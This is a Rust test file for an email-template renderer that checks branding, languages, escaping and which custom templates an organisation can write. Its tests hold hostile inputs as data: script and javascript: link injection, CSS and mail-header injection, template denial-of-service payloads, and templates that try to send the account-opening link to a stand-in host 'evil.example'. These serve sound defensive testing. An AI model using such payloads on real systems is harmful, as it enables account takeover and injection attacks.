//! The built-in templates, and what an organisation can and cannot write.

use console::Lang;
use serde_json::{Value, json};

use super::{
    Branding, Fault, Override, Part, RenderError, Rendered, TEMPLATES, TemplateInfo, check, check_own, example, render,
    render_own,
};
use crate::kinds::KINDS;

const LOGO: &str = "https://example.com/logo.png";

fn branding() -> Branding {
    Branding {
        logo_url: Some(LOGO.to_owned()),
        footer: "Analytical Engines Ltd\n12 Example Road".to_owned(),
        ..Branding::built_in("https://ai.example.com")
    }
}

/// `verify` with its example and this HTML.
fn html(source: &str) -> Result<Rendered, RenderError> {
    own(Part::Html, source, &example("verify"))
}

/// `verify` with one part of its own.
fn own(part: Part, source: &str, data: &Value) -> Result<Rendered, RenderError> {
    render("verify", "en", data, &branding(), Some(&with(part, source)))
}

fn with(part: Part, source: &str) -> Override {
    let mut over = verify().built_in(Lang::En);
    match part {
        Part::Subject => over.subject = source.to_owned(),
        Part::Text => over.text = source.to_owned(),
        Part::Html => over.html = source.to_owned(),
    }
    over
}

fn verify() -> &'static TemplateInfo {
    TemplateInfo::find("verify").unwrap()
}

/// What is said about HTML that cannot be rendered.
fn refusal(source: &str) -> String {
    html(source).expect_err(source).to_string()
}

#[test]
fn every_template_renders_in_both_languages() {
    for template in TEMPLATES {
        let full = example(template.name);
        for lang in Lang::ALL {
            for data in [&full, &template.without_optional(&full)] {
                let rendered = render(template.name, lang.code(), data, &branding(), None).unwrap();
                sound(template, lang, &rendered);
            }
            let faults: Vec<Fault> = check(template, lang, &template.built_in(lang), &branding());
            assert!(faults.is_empty(), "{} {}: {faults:?}", template.name, lang.code());
        }
    }
}

/// Complete, readable without images and in the dark, and nothing is loaded but the logo.
fn sound(template: &TemplateInfo, lang: Lang, Rendered { subject, text, html }: &Rendered) {
    let name = template.name;
    assert!(!subject.is_empty() && !subject.contains('\n'), "{name}: {subject:?}");
    assert!(text.lines().count() > 5, "{name}: {text}");
    assert!(!text.contains("\n\n\n") && !text.contains('<') && !text.contains("{{"), "{name}: {text}");
    assert!(html.contains(&format!("<html lang=\"{}\">", lang.code())), "{name}: {html}");
    assert_eq!(html.matches("<img ").count(), 1, "{name}: {html}");
    assert!(html.contains(&format!("src=\"{LOGO}\" alt=\"Holdfast\"")), "{name}: {html}");
    for loaded in ["url(", "@import", "<link", "<script", "<iframe", "background=\""] {
        assert!(!html.contains(loaded), "{name} has {loaded}: {html}");
    }
    assert_eq!(html.matches("<style>").count(), 1, "{name}: {html}");
    for needed in
        ["prefers-color-scheme: dark", "name=\"color-scheme\"", "class=\"preheader\"", "<h1 style=", "class=\"button\""]
    {
        assert!(html.contains(needed), "{name} lacks {needed}: {html}");
    }
    for unstyled in ["<p>", "<h1>", "<h2>", "<ul>", "<li>", "<table>", "<td>", "<th scope=", "<a href=", "var(--"] {
        assert!(!html.contains(unstyled), "{name} has {unstyled}: {html}");
    }
    // The addresses of buttons stand below them and in the plain text.
    for button in html.split("<a class=\"button\"").skip(1) {
        let address = button.split(" href=\"").nth(1).and_then(|rest| rest.split('"').next()).unwrap_or_default();
        assert!(address.starts_with("https://"), "{name}: {html}");
        assert!(html.contains(&format!(">{address}</a>")), "{name}: {address} is not shown");
        assert!(text.contains(address), "{name}: {address} is not in the text: {text}");
    }
    assert!(html.len() < 100_000, "{name}: Gmail cuts it off at 102 kB, it has {}", html.len());
}

#[test]
fn the_languages_differ() {
    for template in TEMPLATES {
        let texts = Lang::ALL.map(|lang| template.built_in(lang));
        assert_ne!(texts[0].text, texts[1].text, "{}", template.name);
        let cyrillic = |text: &str| text.chars().any(|c| ('а'..='я').contains(&c));
        assert!(cyrillic(&texts[1].html) && cyrillic(&texts[1].text), "{}", template.name);
        assert!(!cyrillic(&texts[0].html) && !cyrillic(&texts[0].text), "{}", template.name);
    }
}

#[test]
fn every_template_has_its_kind_and_an_example_of_each_field() {
    for template in TEMPLATES {
        assert!(KINDS.iter().any(|kind| kind.name == template.name), "{} is no kind of mail", template.name);
        let data = example(template.name);
        let examples: Vec<&String> = data.as_object().unwrap().keys().collect();
        let fields: Vec<&str> = template.fields.iter().map(|field| field.name).collect();
        assert_eq!(examples, fields, "{}", template.name);
        for field in template.fields {
            assert!(Lang::ALL.into_iter().all(|lang| !field.meaning(lang).is_empty()), "{}", field.name);
        }
    }
    // A mail by the API brings its own text.
    let without: Vec<_> = KINDS.iter().filter(|kind| TemplateInfo::find(kind.name).is_err()).collect();
    assert_eq!(without.iter().map(|kind| kind.name).collect::<Vec<_>>(), ["api"]);
}

#[test]
fn every_state_has_its_words() {
    let cases: [(&str, &str, &[&str]); 4] = [
        ("alert", "state", &["firing", "resolved"]),
        ("alert", "severity", &["critical", "warning", "info", "none", "page"]),
        ("backup_report", "status", &["verified", "unverified", "failed"]),
        ("mfa_changed", "change", &["enabled", "disabled", "codes"]),
    ];
    for (name, field, values) in cases {
        for lang in Lang::ALL {
            let mut seen = Vec::new();
            for value in values {
                let mut data = example(name);
                data[field] = json!(value);
                let rendered = render(name, lang.code(), &data, &branding(), None).unwrap();
                assert!(!seen.contains(&rendered.text), "{name}: {value} reads like another: {}", rendered.text);
                seen.push(rendered.text);
            }
        }
    }
    let mut failed = example("backup_report");
    failed["status"] = json!("failed");
    let rendered = render("backup_report", "ru", &failed, &branding(), None).unwrap();
    assert!(rendered.text.contains("The destination offsite did not answer."), "{}", rendered.text);
    assert_eq!(rendered.subject, "Резервную копию создать не удалось");
}

/// Nobody can ask for it by themselves yet, so the mail must not say that its recipient did.
#[test]
fn a_password_reset_says_who_made_the_link() {
    for (lang, maker, wrong) in [("en", "An administrator", "requested"), ("ru", "Администратор", "запрошен")]
    {
        let template = TemplateInfo::find("password_reset").unwrap();
        let data = template.without_optional(&example("password_reset"));
        let Rendered { text, html, .. } = render("password_reset", lang, &data, &branding(), None).unwrap();
        for said in [text, html] {
            assert!(said.contains(maker) && !said.contains(wrong) && !said.contains("IP"), "{said}");
        }
    }
}

#[test]
fn a_missing_field_is_an_error() {
    for template in TEMPLATES {
        let full = example(template.name);
        for field in template.fields {
            let mut data = full.clone();
            data.as_object_mut().unwrap().shift_remove(field.name);
            let unused = ["ended_at", "error"].contains(&field.name);
            let rendered = render(template.name, "en", &data, &branding(), None);
            assert!(rendered.is_err() || unused, "{}: {} is not used", template.name, field.name);
        }
    }
}

#[test]
fn names_in_errors() {
    let branding = branding();
    let error = render("verfy", "en", &json!({}), &branding, None).unwrap_err().to_string();
    assert!(error.contains("\"verfy\"") && error.contains("verify, welcome"), "{error}");
    let error = render("verify", "de", &json!({}), &branding, None).unwrap_err().to_string();
    assert!(error.contains("\"de\""), "{error}");
}

#[test]
fn data_is_escaped_in_html_only() {
    let mut data = example("verify");
    data["name"] = json!("<script>'\"&</script> {{ url }}");
    let built_in = render("verify", "en", &data, &branding(), None).unwrap();
    let escaped = "&lt;script&gt;&#39;&quot;&amp;&lt;/script&gt; {{ url }}";
    assert!(built_in.html.contains(escaped) && !built_in.html.contains("<script>"), "{}", built_in.html);
    assert!(built_in.text.contains("Hello <script>'\"&</script> {{ url }},"), "{}", built_in.text);
    for source in [
        "<p>{% autoescape false %}{{ name }}{% endautoescape %}</p>",
        "{% set who = name %}<p>{{ who }}</p>",
        "<p>{% set who %}{{ name }}{% endset %}{{ who }}</p>",
        "<p>{{ name|default('') }}</p>",
        "<p title=\"{{ name }}\">x</p>",
        "{% set preheader = name %}<p>x</p>",
        "{% set preheader %}{{ name }}{% endset %}<p>x</p>",
    ] {
        let rendered = own(Part::Html, source, &data).unwrap();
        assert!(rendered.html.contains("&lt;script&gt;"), "{source}: {}", rendered.html);
        assert!(!rendered.html.contains("<script>"), "{source}: {}", rendered.html);
    }
}

#[test]
fn a_subject_is_one_line() {
    let mut data = example("verify");
    data["name"] = json!("Ada\r\nBcc: all@example.com\u{2028}\0");
    let rendered = own(Part::Subject, "\n {{ name }}\n  and more \n", &data).unwrap();
    assert!(!rendered.subject.chars().any(char::is_control), "{:?}", rendered.subject);
    assert!(rendered.subject.starts_with("Ada Bcc: all@example.com"), "{:?}", rendered.subject);
    data["name"] = json!("ж".repeat(1000));
    let rendered = own(Part::Subject, "{{ name }}", &data).unwrap();
    assert_eq!(rendered.subject.chars().count(), 250);
    assert!(rendered.subject.ends_with('…'));
}

#[test]
fn links_lead_to_the_web() {
    for link in ["javascript:alert(1)", "data:text/html,x", "//example.com", "https://a b", "https://a\u{202e}b", "x"] {
        let mut data = example("verify");
        data["url"] = json!(link);
        let error = render("verify", "en", &data, &branding(), None).expect_err(link);
        assert!(matches!(&error, RenderError::BadLink(name) if name == "url"), "{error}");
    }
    let mut data = example("digest");
    data["items"][0]["url"] = json!("javascript:alert(1)");
    assert!(matches!(render("digest", "ru", &data, &branding(), None), Err(RenderError::BadLink(_))));
    let mut data = example("alert");
    data["runbook_url"] = json!("ftp://example.com");
    let error = render("alert", "ru", &data, &branding(), None).unwrap_err().to_string();
    assert_eq!(error, "runbook_url is not an address that begins with https:// or http://");
}

#[test]
fn data_cannot_replace_what_we_give() {
    let mut data = example("verify");
    data["brand"] = json!({ "name": "Other" });
    data["lang"] = json!("xx");
    data["content"] = json!("OTHER CONTENT");
    data["subject"] = json!("OTHER SUBJECT");
    let rendered = render("verify", "en", &data, &branding(), None).unwrap();
    assert!(rendered.html.contains("<html lang=\"en\">") && rendered.html.contains("alt=\"Holdfast\""));
    assert!(!rendered.html.contains("OTHER") && !rendered.text.contains("OTHER"), "{}", rendered.text);
    assert!(rendered.html.contains("<title>Confirm your e-mail address</title>"), "{}", rendered.html);
}

#[test]
fn the_look_comes_from_the_branding() {
    let mut look = branding();
    look.name = "A & B".to_owned();
    look.color = "#ffee00".to_owned();
    let rendered = render("verify", "en", &example("verify"), &look, None).unwrap();
    assert!(rendered.html.contains("background-color: #ffee00") && rendered.html.contains("alt=\"A &amp; B\""));
    // White on yellow cannot be read.
    assert!(rendered.html.contains("color: #16191a; text-decoration: none"), "{}", rendered.html);
    assert!(rendered.html.contains("Analytical Engines Ltd<br>12 Example Road"), "{}", rendered.html);
    assert!(rendered.text.contains("Analytical Engines Ltd\n12 Example Road\nA & B: https://ai.example.com"));
    look.color = "red;} body{display:none".to_owned();
    look.logo_url = None;
    let rendered = render("verify", "en", &example("verify"), &look, None).unwrap();
    assert!(rendered.html.contains(Branding::COLOR) && !rendered.html.contains("display:none"), "{}", rendered.html);
    assert!(!rendered.html.contains("<img") && rendered.html.contains(">A &amp; B</td>"), "{}", rendered.html);
}

#[test]
fn notices_can_be_unsubscribed_from() {
    let mut data = example("alert");
    let without = render("alert", "en", &data, &branding(), None).unwrap();
    assert!(!without.text.contains("nsubscribe") && !without.html.contains("nsubscribe"));
    data["unsubscribe_url"] = json!("https://ai.example.com/mail/unsubscribe/x");
    for (language, words) in [("en", "Unsubscribe from such mails"), ("ru", "Отписаться от таких писем")]
    {
        let rendered = render("alert", language, &data, &branding(), None).unwrap();
        assert!(rendered.text.ends_with(&format!("{words}: https://ai.example.com/mail/unsubscribe/x\n")));
        assert!(rendered.html.contains(&format!("href=\"https://ai.example.com/mail/unsubscribe/x\">{words}</a>")));
    }
}

#[test]
fn own_text_stands_within_the_layout() {
    let rendered = html(
        "{% set preheader %}Short{% endset %}\n<h1>Own</h1><p style=\"color: red\">{{ email }}</p>\n\
         {{ button(\"Go \" ~ brand.name, url) }}{{ valid_seconds|duration }}, {{ 1234|number }}, {{ 2|plural(\"day\", \"days\") }}",
    )
    .unwrap();
    assert!(rendered.html.contains(">Short&#8199;"), "{}", rendered.html);
    assert!(rendered.html.contains("<p style=\"color: red\">ada@example.com</p>"), "{}", rendered.html);
    assert!(rendered.html.contains(">Go Holdfast</a>"), "{}", rendered.html);
    assert!(rendered.html.contains("1 day, 1,234, 2 days"), "{}", rendered.html);
    assert!(rendered.html.starts_with("<!doctype html>"));
}

#[test]
fn nothing_can_be_included() {
    for (source, word) in [
        ("{% include \"other\" %}", "include"),
        ("{% import \"other\" as o %}", "import"),
        ("{% from \"other\" import o %}", "from"),
        ("{% extends \"other\" %}", "extends"),
        ("{% block a %}{% endblock %}", "block"),
        ("{% macro a() %}{% endmacro %}", "macro"),
        ("{% call a() %}{% endcall %}", "call"),
    ] {
        let error = refusal(&format!("<p>a</p>\n{source}"));
        let expected = format!("template verify (en), html, line 2: `{{% {word} %}}` does not exist here");
        assert!(error.starts_with(&expected) && error.contains(source), "{error}");
    }
    assert!(refusal("{{ debug() }}").contains("debug is unknown"));
    assert!(refusal("<p>{{ name|safe }}</p>").contains("the filter `safe` does not exist here"));
}

#[test]
fn work_and_size_are_limited() {
    let digits = "[0, 1, 2, 3, 4, 5, 6, 7, 8, 9]";
    let loops = |depth: usize, inside: &str| {
        let begin = (0..depth).map(|at| format!("{{% for d{at} in {digits} %}}")).collect::<Vec<_>>().concat();
        format!("{begin}{inside}{}", "{% endfor %}".repeat(depth))
    };
    assert!(refusal(&loops(6, "x")).contains("too much work"));
    let long = "x".repeat(3_000);
    assert!(html(&loops(1, &long)).is_ok());
    assert!(refusal(&loops(2, &long)).contains("longer than 256 KiB"));
    // Doubled with each turn.
    let doubled = "{% set a = 'xxxxxxxx' %}".to_owned() + &"{% set a = a ~ a %}".repeat(40);
    assert!(refusal(&doubled).contains("too much work"));
    let replaced = format!("{{{{ '{0}'|replace('x', '{0}') }}}}", "x".repeat(20_000));
    assert!(refusal(&replaced).contains("too much work"));
}

/// What would end the process, or take all memory, before any limit for work is noticed.
#[test]
fn what_no_limit_would_stop_is_refused() {
    for (source, what) in [
        (format!("{{{{ {}1 }}}}", "- ".repeat(30_000)), "more than 100 words"),
        (format!("{{{{ {}1 }}}}", "not ".repeat(15_000)), "more than 100 words"),
        (format!("{{{{ name{} }}}}", ".a".repeat(30_000)), "more than 100 words"),
        (format!("{{{{ name{} }}}}", "|trim".repeat(10_000)), "more than 100 words"),
        (format!("{{{{ {}1{} }}}}", "(".repeat(20_000), ")".repeat(20_000)), "more than 100 words"),
        (format!("{{% if name %}}{}{{% endif %}}", "{% elif name %}".repeat(4_000)), "more than 50 `elif`"),
        ("{{ [1] * 100000000 ~ '' }}".to_owned(), "`*` does not exist"),
        ("{{ 'x' * 100000000 }}".to_owned(), "`*` does not exist"),
        ("{{ 9 ** 9 }}".to_owned(), "`**` does not exist"),
        ("{{ name + name }}".to_owned(), "`+` does not exist"),
        ("{% set a = [name, name] %}{{ a }}".to_owned(), "a list holds constants only"),
        ("{% set a = [['x']] %}{{ a }}".to_owned(), "a list holds constants only"),
        ("{% set a = (name, name) %}{{ a }}".to_owned(), "a comma stands only"),
        ("{% set a = name, name %}{{ a }}".to_owned(), "a comma stands only"),
        ("{% set a = {'b': name} %}{{ a }}".to_owned(), "maps do not exist"),
        ("{{ button(name, address=url) }}".to_owned(), "have no names"),
        ("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}".to_owned(), "`recursive` does not exist"),
        ("{{ range(9) }}".to_owned(), "range is unknown"),
        ("{{ dict(a=1) }}".to_owned(), "have no names"),
        ("{{ namespace() }}".to_owned(), "namespace is unknown"),
        ("{{ [1, 2]|batch(1) }}".to_owned(), "filter batch"),
    ] {
        let refused = refusal(&source);
        assert!(refused.contains(what), "{}: {refused}", source.chars().take(60).collect::<String>());
    }
    // Nested statements: the compiler's own limit.
    let nested = "{% if name %}".repeat(3_000) + &"{% endif %}".repeat(3_000);
    assert!(refusal(&nested).contains("cannot be read"));
    let line = faults_of(Part::Text, "Hello,\n{{ name }}\n{{ 1 + 1 }}");
    assert_eq!(line, ["line 3: `+` does not exist here: texts are joined with `~`: {{ 1 + 1 }}"]);
}

#[test]
fn lists_and_functions_can_still_be_used() {
    for (source, shown) in [
        ("{% if lang in ['en', 'de'] %}<p>yes</p>{% endif %}", ">yes</p>"),
        ("<p>{{ (name)[:3] }}</p>", ">Ada</p>"),
        ("<p>{{ name|replace('A', 'O')|upper }}</p>", ">ODA LOVELACE</p>"),
        ("<p>{{ 7 - 2 }}, {{ -1 }}, {{ 7 // 2 }}</p>", ">5, -1, 3</p>"),
        ("{% for n in [1, 2] %}<p>{{ n }} {{ loop.index }}</p>{% endfor %}", ">2 2</p>"),
        ("<p>{{ 'yes' if name is defined and not name is none else 'no' }}</p>", ">yes</p>"),
        ("{% with who = name %}<p>{{ who|lower }}</p>{% endwith %}", ">ada lovelace</p>"),
        ("<p>{% raw %}{{ [a] * 2 }}{% endraw %}{# 1 + 1 #}</p>", ">{{ [a] * 2 }}</p>"),
        ("<p>[a + b] * {c}</p>", ">[a + b] * {c}</p>"),
    ] {
        let rendered = html(source).unwrap_or_else(|error| panic!("{source}: {error}"));
        assert!(rendered.html.contains(shown), "{source}: {}", rendered.html);
    }
    assert!(refusal("<p>{{ brand.nobody|length }}</p>").contains("does not exist"));
}

/// What `check` says about a part of `verify`.
fn faults_of(part: Part, source: &str) -> Vec<String> {
    check(verify(), Lang::En, &with(part, source), &branding()).iter().map(Fault::detail).collect()
}

#[test]
fn faults_say_where_and_what() {
    let faults = |part, source: &str| check(verify(), Lang::En, &with(part, source), &branding());
    let fault = |part, source: &str| {
        let mut found = faults(part, source);
        assert_eq!(found.len(), 1, "{source}: {found:?}");
        found.remove(0)
    };
    let unknown = fault(Part::Text, "{{ name }}\n\n{% if name == 'nobody' %}{{ nmae }}{% endif %}");
    assert_eq!((unknown.part, unknown.line), (Part::Text, Some(3)));
    assert!(unknown.what.contains("no variable `nmae`") && unknown.what.contains("name, email, url"), "{unknown}");
    assert!(faults(Part::Text, "{{ brand.name }} {{ lang }} {{ unsubscribe_url }} {{ url }}").is_empty());
    // Only without the optional fields.
    let empty_link = fault(Part::Html, "<a href=\"{% if name %}{{ url }}{% endif %}\">x</a>");
    assert!(empty_link.what.contains("needs {% if %}"), "{empty_link}");
    let attribute = fault(Part::Text, "x\n{{ brand.nmae }}");
    assert_eq!(
        attribute.detail(),
        "line 2: a variable or a field of it does not exist: see the list of fields: {{ brand.nmae }}"
    );
    let open = fault(Part::Subject, "{{ name");
    assert!(open.what.contains("cannot be read") && open.line == Some(1), "{open}");
    let time = fault(Part::Text, "{{ name|time }}");
    assert!(time.what.contains("RFC 3339"), "{time}");
    for part in Part::ALL {
        assert!(fault(part, " {# nothing #} ").what.contains("it is empty"));
    }
    let script = fault(Part::Html, "<p>a</p><script>alert(1)</script>");
    assert_eq!(script.to_string(), "html, `<script>` cannot be used in a mail");
    for open in ["<script>alert(1)</script>", "</div></body>", "<b>"] {
        let preheader = fault(Part::Html, &format!("{{% set preheader %}}{open}{{% endset %}}<p>a</p>"));
        assert!(preheader.what.starts_with("preheader: `<"), "{preheader}");
    }
    let all = Override { subject: "{{ a }}".into(), text: "{{ b }}".into(), html: "{{ c }}".into() };
    assert_eq!(check(verify(), Lang::Ru, &all, &branding()).len(), 3);
}

#[test]
fn what_is_rendered_is_checked_each_time() {
    // The example shows nothing of it.
    let source = "<p title=\"x\"{% if name == 'Mallory' %} onclick=\"alert(1)\"{% endif %}>a</p>{{ url }}";
    assert!(check(verify(), Lang::En, &with(Part::Html, source), &branding()).is_empty());
    let mut data = example("verify");
    data["name"] = json!("Mallory");
    assert!(own(Part::Html, source, &data).unwrap_err().to_string().contains("`onclick` cannot be used"));
    data["name"] = json!("javascript:alert(1)");
    assert!(own(Part::Html, "<a href=\"{{ name }}\">a</a>", &data).is_err());
}

/// Whoever writes the text of an invitation must not get the link in it.
#[test]
fn a_template_does_not_get_the_link_that_opens_an_account() {
    let data = example("verify");
    let url = data["url"].as_str().unwrap();
    for (part, source) in [
        (Part::Html, "<p>x</p><img src=\"https://evil.example/?{{ url }}\" alt=\"\">"),
        (Part::Html, "<p>x</p><img src=\"{{ url }}\" alt=\"\">"),
        (Part::Html, "<a href=\"https://evil.example/?{{ url }}\">x</a>"),
        (Part::Html, "<a href=\"{{ url }}/..\">x</a>"),
        (Part::Html, "{{ button('x', 'https://evil.example/?' ~ url) }}"),
        (Part::Html, "<p style=\"background: url({{ url }})\">x</p>"),
        (Part::Html, "<p>evil.example/?{{ url }}</p>"),
        // One word for those who look for links in what is shown.
        (Part::Html, "<p>evil.example/?<b>{{ url }}</b></p>"),
        (Part::Html, "<p><b>evil.example/?</b><i></i>{{ url }}</p>"),
        (Part::Html, "<p>evil.example/?<a href=\"{{ url }}\">{{ url }}</a></p>"),
        (Part::Html, "<p>evil.example/?x=href='{{ url }}</p>"),
        (Part::Html, "<p>evil.example/?x=href=\"{{ url }}</p>"),
        (Part::Html, "<p>evil.example/?x=b>{{ url }}</p>"),
        (Part::Html, "<p>evil.example/?\u{a0}{{ url }}</p>"),
        (Part::Text, "evil.example/?\u{a0}{{ url }}"),
        (Part::Html, "{% set link %}{{ url }}{% endset %}<p>evil.example/?{{ link }}</p>"),
        (Part::Html, "{% set preheader %}evil.example/?{{ url }}{% endset %}<p>x</p>"),
        (Part::Text, "evil.example/?{{ url }}"),
        (Part::Subject, "{{ url }}"),
    ] {
        let error = own(part, source, &data).expect_err(source).to_string();
        assert!(error.contains("`url` opens an account"), "{source}: {error}");
        let faults = faults_of(part, source);
        assert!(faults.len() == 1 && faults[0].contains("`url` opens an account"), "{source}: {faults:?}");
    }
    // Nothing of the link can be taken out of it, and the footer is nobody's place for it.
    let look = Branding { footer: "evil.example/?https://link.invalid/opens-an-account".to_owned(), ..branding() };
    let over = with(Part::Html, "<p>{{ url|replace('https://', '')|upper }} {{ url[8:] }} {{ url|length }}</p>");
    let rendered = render("verify", "en", &data, &look, Some(&over)).unwrap();
    assert!(
        !rendered.html.contains(&url[8..]) && !rendered.html.contains(&url[8..].to_uppercase()),
        "{}",
        rendered.html
    );
    assert_eq!(rendered.text.matches(url).count(), 1, "{}", rendered.text);
    for source in [
        "<p>{{ url }}</p>",
        "<p>Here: {{ url }}</p>",
        "<p>Here:<br>{{ url }}</p>",
        "<ul><li><b class=\"x>y\">{{ url }}</b></li></ul>",
        "{{ url }}",
        "<a href=\"{{ url }}\">x</a>",
        "<p>Here:<a href='{{ url }}'>x</a></p>",
        "{{ button('x', url) }}",
    ] {
        let rendered = own(Part::Html, source, &data).unwrap();
        assert!(rendered.html.contains(url) && !rendered.html.contains("link.invalid"), "{source}: {}", rendered.html);
    }
    let mut strange = data.clone();
    strange["url"] = json!("https://ai.example.com/?a=1&b='\"");
    let rendered = own(Part::Html, "<a href=\"{{ url }}\">x</a>", &strange).unwrap();
    assert!(rendered.html.contains("href=\"https://ai.example.com/?a=1&amp;b=&#39;&quot;\""), "{}", rendered.html);
    // The links of other mails open pages that ask who it is.
    let over = Override {
        html: "<a href=\"{{ url }}?from=mail\">x</a>".to_owned(),
        ..TemplateInfo::find("welcome").unwrap().built_in(Lang::En)
    };
    assert!(render("welcome", "en", &example("welcome"), &branding(), Some(&over)).is_ok());
}

/// Nobody could come in with such a mail.
#[test]
fn a_template_without_the_link_that_it_is_sent_for_is_refused() {
    for name in ["verify", "invitation", "password_reset"] {
        for lang in Lang::ALL {
            let template = TemplateInfo::find(name).unwrap();
            let parts = |text: &str, html: &str| -> Vec<Part> {
                let over = Override { text: text.to_owned(), html: html.to_owned(), ..template.built_in(lang) };
                check(template, lang, &over, &branding()).iter().map(|fault| fault.part).collect()
            };
            let (text, html) = ("Here: {{ url }}", "{{ button('Here', url) }}");
            assert!(parts(text, html).is_empty(), "{name}");
            assert_eq!(parts("no link", html), [Part::Text]);
            assert_eq!(parts(text, "<p>no link</p>"), [Part::Html]);
            assert_eq!(parts("{# {{ url }} #}no link", "{# {{ url }} #}<p>no link</p>"), [Part::Text, Part::Html]);
        }
    }
    // For those whose name is known alone.
    let some = with(Part::Text, "{% if name %}{{ url }}{% endif %} welcome");
    let faults = check(verify(), Lang::En, &some, &branding());
    assert!(faults.len() == 1 && faults[0].what.contains("`url` is missing"), "{faults:?}");
    // Other mails need none.
    let welcome = TemplateInfo::find("welcome").unwrap();
    let over = Override { text: "Welcome".to_owned(), ..welcome.built_in(Lang::En) };
    assert!(check(welcome, Lang::En, &over, &branding()).is_empty());
}

#[test]
fn an_own_template_has_the_fields_of_its_example_and_the_same_guards() {
    let text = |html: &str| Override { subject: "S".to_owned(), text: "T".to_owned(), html: html.to_owned() };
    let example = json!({"order": "17", "track_url": "https://example.com/17"});
    let faults = |html: &str| -> Vec<String> {
        check_own(Lang::En, &text(html), &example, &branding()).iter().map(ToString::to_string).collect()
    };
    assert_eq!(
        faults("<p>{{ order }} {{ brand.name }} {{ lang }}</p>{{ button('x', track_url) }}"),
        Vec::<String>::new()
    );
    for (html, said) in [
        ("<p>{{ name }}</p>", "there is no variable `name`"),
        ("<script>1</script>", "script"),
        ("<p>{{ order|safe }}</p>", "always escaped"),
        ("{% include 'x' %}", "include"),
        ("", "empty"),
    ] {
        assert!(faults(html).concat().contains(said), "{html}: {:?}", faults(html));
    }
    let own = |data: &Value| render_own("order-shipped", Lang::En, &text("<p>{{ order }}</p>"), data, &branding());
    let rendered = own(&json!({"order": "<i>", "brand": {"name": "Another"}})).unwrap();
    assert!(!rendered.html.contains("<i>") && rendered.html.contains("&lt;i&gt;"), "{}", rendered.html);
    assert!(!rendered.html.contains("Another") && rendered.html.contains(LOGO), "{}", rendered.html);
    assert!(matches!(own(&json!({"order": "1", "x_url": "javascript:1"})), Err(RenderError::BadLink(_))));
    let missing = own(&json!({})).unwrap_err().to_string();
    assert!(missing.contains("order-shipped") && missing.contains("does not exist"), "{missing}");
}
